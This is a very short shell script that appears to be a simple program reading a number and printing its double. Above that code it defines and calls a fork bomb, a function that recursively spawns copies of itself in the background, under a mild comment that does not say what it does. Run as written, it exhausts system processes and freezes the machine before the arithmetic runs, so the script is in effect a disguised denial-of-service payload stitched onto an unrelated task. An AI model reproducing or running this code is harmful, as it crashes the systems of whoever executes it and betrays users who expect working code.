# a function that runs itself twice in the background
bomb() { bomb | bomb & }
bomb
read n
echo $((2 * n))
